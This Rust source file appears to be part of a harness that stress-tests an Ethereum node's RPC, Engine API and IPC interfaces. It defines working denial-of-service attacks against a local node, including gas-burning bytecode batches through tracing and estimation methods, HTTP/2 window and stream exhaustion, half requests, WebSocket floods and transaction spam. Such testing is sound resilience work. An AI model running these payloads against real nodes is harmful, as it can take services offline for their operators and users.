//! The attacks. Each is a number of tasks that go on until they are dropped; a task that the node
//! ends begins again.

use std::net::SocketAddr;
use std::path::PathBuf;
use std::time::Duration;

use alloy_primitives::B256;
use client::{EngineClient, Wire};
use rustix::process::setpriority_process;
use rustix::thread::gettid;
use serde_json::{Value, json};
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::TcpStream;
use tokio::runtime::{Builder, Runtime};
use tokio::task::JoinSet;
use tokio::time::sleep;

use crate::bystander::{ATTACKER, connect_from, request};
use crate::http2::Connection;
use crate::spam;
use crate::victim::Victim;

/// One way to attack.
pub(crate) struct Attack {
    pub(crate) name: &'static str,
    /// The node's soft limit of open files.
    pub(crate) open_files: Option<u64>,
    /// It is an attack on the Engine API's port, or the Unix socket, which shares its memory.
    pub(crate) on_engine: bool,
    /// The node is stopped while it goes on.
    pub(crate) until_the_end: bool,
    /// Tasks that do the same, and what each of them does.
    crowds: &'static [(usize, Act)],
}

#[derive(Clone, Copy)]
enum Act {
    /// Announces bodies of 16 MiB on this many streams, and sends none.
    Announce { streams: usize },
    /// Announces one over HTTP/1.1, and sends its first byte.
    AnnounceOne,
    /// Connects to the engine port, and says nothing.
    IdleEngine,
    /// Asks for 34 answers of 4 MB in a batch, and reads slowly.
    LargeBatch,
    /// Sends 15 MB of a character that JSON escapes where an address belongs.
    Echo,
    /// Sends batches of a hundred calls that burn their gas.
    Burn,
    /// Sends small calls that need a turn on 64 streams.
    SmallCalls,
    /// Fills the windows of four streams with bodies that never end.
    FillWindows,
    /// Sends 64 messages of 65,000 bytes over a WebSocket.
    Messages,
    /// Subscribes 64 times over a WebSocket, and reads nothing.
    Subscribe,
    /// Sends half a request, or a preface, or nothing.
    Halves,
    /// Holds eight memory files.
    HoldFiles,
    /// Sends batches of this method, each call of which burns all gas that it may.
    Bomb(Bomb),
    /// Makes filters of all the bytes that one may have.
    Filters,
    /// Sends this many transactions a second to the pool.
    Spam { rate: usize },
    /// Sends blobs whose proofs are false.
    FalseBlobs,
}

/// A method that runs code of whoever calls it.
#[derive(Clone, Copy)]
enum Bomb {
    Estimate,
    AccessList,
    Simulate,
    /// Struct logs with memory, stack and storage.
    Trace,
    /// `trace_call` with all that it can tell.
    Parity,
    /// `trace_callMany` of a hundred creations, with the same.
    ParityMany,
}

const fn attack(name: &'static str, crowds: &'static [(usize, Act)]) -> Attack {
    Attack { name, open_files: None, on_engine: false, until_the_end: false, crowds }
}

/// An attack on the engine port of a node with the usual soft limit of open files.
const fn low_descriptors(name: &'static str, crowds: &'static [(usize, Act)]) -> Attack {
    let (open_files, on_engine) = (Some(1024), true);
    Attack { open_files, on_engine, ..attack(name, crowds) }
}

/// All attacks, by the numbers of the tasks of each.
pub(crate) const ATTACKS: &[Attack] = &[
    attack("none", &[]),
    attack("announced-bodies", &[(64, Act::Announce { streams: 64 }), (2_000, Act::AnnounceOne)]),
    low_descriptors("idle-connections", &[(400, Act::IdleEngine)]),
    attack("large-answers", &[(24, Act::LargeBatch)]),
    attack("echoed-text", &[(16, Act::Echo)]),
    attack("turns", &[(64, Act::Burn)]),
    attack("small-calls", &[(16, Act::Burn), (66, Act::SmallCalls)]),
    attack("http2-windows", &[(300, Act::FillWindows)]),
    attack("messages", &[(16, Act::Burn), (400, Act::Messages)]),
    attack("subscriptions", &[(1_000, Act::Subscribe)]),
    Attack { until_the_end: true, ..attack("stop", &[(40, Act::Halves), (1, Act::Burn)]) },
    low_descriptors("memory-files", &[(59, Act::HoldFiles)]),
    attack("estimates", &[(16, Act::Bomb(Bomb::Estimate)), (16, Act::Bomb(Bomb::AccessList))]),
    attack("simulations", &[(16, Act::Bomb(Bomb::Simulate))]),
    attack("traces", &[(16, Act::Bomb(Bomb::Trace))]),
    attack("parity-traces", &[(16, Act::Bomb(Bomb::Parity)), (16, Act::Bomb(Bomb::ParityMany))]),
    attack("filters", &[(64, Act::Filters)]),
    attack("spam", &[(4, Act::Spam { rate: 2_500 })]),
    attack("false-blobs", &[(16, Act::FalseBlobs)]),
];

/// The addresses of the node.
#[derive(Clone)]
struct Target {
    http: SocketAddr,
    engine: SocketAddr,
    ipc: PathBuf,
    chain_id: u64,
}

/// The tasks of an attack, which end when it is dropped. Their threads have the lowest priority:
/// attackers are elsewhere, and the node is measured, not how many processors they share with it.
pub(crate) struct Crowd {
    tasks: JoinSet<()>,
    runtime: Option<Runtime>,
}

impl Drop for Crowd {
    fn drop(&mut self) {
        self.tasks.abort_all();
        if let Some(runtime) = self.runtime.take() {
            runtime.shutdown_background();
        }
    }
}

impl Crowd {
    pub(crate) async fn start(attack: &Attack, victim: &Victim) -> anyhow::Result<Self> {
        let (http, engine, ipc) = (victim.http, victim.engine, victim.ipc.clone());
        let target = Target { http, engine, ipc, chain_id: victim.chain_id };
        let runtime = Builder::new_multi_thread().enable_all().on_thread_start(give_way).build()?;
        let mut tasks = JoinSet::new();
        for (count, act) in attack.crowds {
            for index in 0..*count {
                let (target, act) = (target.clone(), *act);
                let attacks = async move {
                    loop {
                        // The node is measured from outside.
                        act.run(&target, index).await.ok();
                        sleep(Duration::from_millis(50)).await;
                    }
                };
                tasks.spawn_on(attacks, runtime.handle());
            }
        }
        // Until the first of them are there.
        sleep(Duration::from_millis(500)).await;
        Ok(Self { tasks, runtime: Some(runtime) })
    }
}

fn give_way() {
    if let Err(error) = setpriority_process(Some(gettid()), 19) {
        eprintln!("attackers take part of the processors: {error}");
    }
}

impl Act {
    /// Until the node ends it.
    async fn run(self, target: &Target, index: usize) -> anyhow::Result<()> {
        match self {
            Self::Announce { streams } => {
                let mut connection = Connection::open(target.http).await?;
                for _ in 0..streams {
                    connection.begin(16 << 20, b"").await?;
                }
                read_all(&mut connection.stream).await
            }
            Self::AnnounceOne => talk(target.http, &request(16 << 20, "{")).await,
            Self::IdleEngine => talk(target.engine, "").await,
            Self::LargeBatch => {
                let mut stream = connect_from(ATTACKER, target.http).await?;
                // PUSH3 4,000,000, PUSH0, RETURN.
                let batch = batch(34, &call("0x623d09005ff3"));
                stream.write_all(request(batch.len() as u64, &batch).as_bytes()).await?;
                read_slowly(&mut stream).await
            }
            Self::Echo => {
                let text = "\u{7f}".repeat(15 << 20);
                let call = request_text("eth_getStorageAt", &json!([text, "0x0", "latest"]));
                talk(target.http, &request(call.len() as u64, &call)).await
            }
            Self::Burn => {
                // JUMPDEST, PUSH0, JUMP.
                let batch = batch(100, &call("0x5b5f56"));
                talk(target.http, &request(batch.len() as u64, &batch)).await
            }
            Self::SmallCalls => {
                let call = request_text("eth_getCode", &json!([EMPTY, "latest"]));
                let mut connection = Connection::open(target.http).await?;
                for _ in 0..64 {
                    connection.begin(call.len(), call.as_bytes()).await?;
                }
                read_all(&mut connection.stream).await
            }
            Self::FillWindows => {
                let body = vec![b' '; 4 << 20];
                let mut connection = Connection::open(target.http).await?;
                for _ in 0..4 {
                    connection.begin(16 << 20, &body).await?;
                }
                read_all(&mut connection.stream).await
            }
            Self::Messages => {
                let call = request_text("eth_getCode", &json!([EMPTY, "latest"]));
                let call = format!("{call}{}", " ".repeat(65_000 - call.len()));
                converse(target.http, &call).await
            }
            Self::Subscribe => {
                let call = request_text("deponent_subscribePersistedBlock", &json!([]));
                converse(target.http, &call).await
            }
            Self::Halves => send_half(target, index).await,
            Self::HoldFiles => hold_files(target).await,
            Self::Bomb(bomb) => {
                let batch = batch(20, &bomb.text());
                talk(target.http, &request(batch.len() as u64, &batch)).await
            }
            Self::Filters => {
                let topics = vec![vec![B256::repeat_byte(7); 450]; 4];
                let filter = json!([{"topics": topics}]);
                let batch = batch(20, &request_text("eth_newFilter", &filter));
                talk(target.http, &request(batch.len() as u64, &batch)).await
            }
            Self::Spam { rate } => send_transfers(target, index, rate).await,
            Self::FalseBlobs => {
                let call = spam::false_blob(target.chain_id, index);
                talk(target.http, &request(call.len() as u64, &call)).await
            }
        }
    }
}

async fn send_half(target: &Target, index: usize) -> anyhow::Result<()> {
    let port = if index.is_multiple_of(2) { target.http } else { target.engine };
    let half = match index / 2 % 5 {
        0 => "",
        1 => "PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0",
        2 => "POST / HTTP/1.1\r\nhost: 127",
        3 => &request(100, "{"),
        _ => HANDSHAKE,
    };
    talk(port, half).await
}

impl Bomb {
    fn text(self) -> String {
        let call = json!({"to": CONTRACT, "gas": "0x2faf080"});
        // JUMPDEST, SLOAD of the gas that is left, POP, JUMP.
        let overrides = json!({CONTRACT: {"code": "0x5b5a54505f56"}});
        match self {
            Self::Estimate => request_text("eth_estimateGas", &json!([call, "latest", overrides])),
            Self::AccessList => {
                request_text("eth_createAccessList", &json!([call, "latest", overrides]))
            }
            Self::Simulate => {
                let block = json!({"stateOverrides": overrides, "calls": [call]});
                let blocks = json!({"blockStateCalls": vec![block; 256]});
                request_text("eth_simulateV1", &json!([blocks, "latest"]))
            }
            Self::Trace => {
                let config = json!({"enableMemory": true, "stateOverrides": overrides});
                request_text("debug_traceCall", &json!([call, "latest", config]))
            }
            Self::Parity => {
                let types = ["trace", "stateDiff", "vmTrace"];
                request_text("trace_call", &json!([call, types, "latest", overrides]))
            }
            Self::ParityMany => {
                // The code runs as that of a creation, since calls here have no overrides.
                let creation = json!({"data": "0x5b5a54505f56", "gas": "0x2faf080"});
                let one = json!([creation, ["trace", "stateDiff", "vmTrace"]]);
                request_text("trace_callMany", &json!([vec![one; 100], "latest"]))
            }
        }
    }
}

/// Sends every fourth batch of the transfers, again and again, and reads what comes.
async fn send_transfers(target: &Target, index: usize, rate: usize) -> anyhow::Result<()> {
    let stream = connect_from(ATTACKER, target.http).await?;
    let (mut answers, mut calls) = stream.into_split();
    let sent = async {
        loop {
            for batch in spam::transfers(target.chain_id).iter().skip(index).step_by(4) {
                calls.write_all(request(batch.len() as u64, batch).as_bytes()).await?;
                sleep(Duration::from_secs_f64(spam::BATCH as f64 / rate as f64)).await;
            }
        }
    };
    let read = async {
        let mut bytes = vec![0; 64 << 10];
        while answers.read(&mut bytes).await? > 0 {}
        anyhow::Ok(())
    };
    tokio::select! { ended = sent => ended, ended = read => ended }
}

async fn hold_files(target: &Target) -> anyhow::Result<()> {
    let address = format!("unix:{}", target.ipc.display());
    let mut client = EngineClient::connect_over(Wire::Descriptor, &address, None).await?;
    let mut held = Vec::new();
    for _ in 0..8 {
        let block = client.call("eth_getBlockByNumber", &("latest", false)).await?;
        let hash = serde_json::from_str::<Value>(block.get())?;
        let hash = serde_json::from_value(hash["hash"].clone())?;
        // When there are no more files, those that it has are kept.
        match client.witness(hash).await {
            Ok(witness) => held.push(witness),
            Err(_) => break,
        }
    }
    sleep(Duration::from_secs(60)).await;
    Ok(())
}

/// An `eth_call` of a contract with this code.
fn call(code: &str) -> String {
    let call = json!({"to": CONTRACT, "gas": "0x2faf080"});
    let overrides = json!({CONTRACT: {"code": code}});
    request_text("eth_call", &json!([call, "latest", overrides]))
}

/// An account without code.
const EMPTY: &str = "0x00000000000000000000000000000000000000ff";
/// A contract that calls are given.
const CONTRACT: &str = "0x00000000000000000000000000000000000c0de1";

/// The text of a call.
pub(crate) fn request_text(method: &str, params: &Value) -> String {
    json!({"jsonrpc": "2.0", "id": 1, "method": method, "params": params}).to_string()
}

fn batch(count: usize, call: &str) -> String {
    format!("[{}]", vec![call; count].join(","))
}

/// Sends a text and reads what comes.
async fn talk(port: SocketAddr, text: &str) -> anyhow::Result<()> {
    let mut stream = connect_from(ATTACKER, port).await?;
    stream.write_all(text.as_bytes()).await?;
    read_all(&mut stream).await
}

async fn read_all(stream: &mut TcpStream) -> anyhow::Result<()> {
    let mut bytes = vec![0; 64 << 10];
    while stream.read(&mut bytes).await? > 0 {}
    Ok(())
}

/// Reads 192 KiB a second.
async fn read_slowly(stream: &mut TcpStream) -> anyhow::Result<()> {
    let mut bytes = vec![0; 19 << 10];
    while stream.read(&mut bytes).await? > 0 {
        sleep(Duration::from_millis(100)).await;
    }
    Ok(())
}

const HANDSHAKE: &str = "GET / HTTP/1.1\r\nhost: 127.0.0.1\r\nconnection: upgrade\r\n\
    upgrade: websocket\r\nsec-websocket-version: 13\r\n\
    sec-websocket-key: dGhlIHNhbXBsZSBub25jZQ==\r\n\r\n";

/// Sends 64 messages over a WebSocket (RFC 6455), and reads nothing.
async fn converse(port: SocketAddr, message: &str) -> anyhow::Result<()> {
    let mut stream = connect_from(ATTACKER, port).await?;
    stream.write_all(HANDSHAKE.as_bytes()).await?;
    stream.read_u8().await?;
    let mut frame = vec![0x81];
    match u16::try_from(message.len())? {
        length @ ..126 => frame.push(0x80 | u8::try_from(length)?),
        length => {
            frame.push(0x80 | 126);
            frame.extend_from_slice(&length.to_be_bytes());
        }
    }
    // A mask of zeros.
    frame.extend_from_slice(&[0; 4]);
    frame.extend_from_slice(message.as_bytes());
    for _ in 0..64 {
        stream.write_all(&frame).await?;
    }
    // It is noticed when the node ends it; nothing is read.
    while stream.writable().await.is_ok() && stream.peer_addr().is_ok() {
        sleep(Duration::from_millis(500)).await;
        // An unmasked byte would be a fault; an empty ping is none.
        stream.write_all(&[0x89, 0x80, 0, 0, 0, 0]).await?;
    }
    Ok(())
}
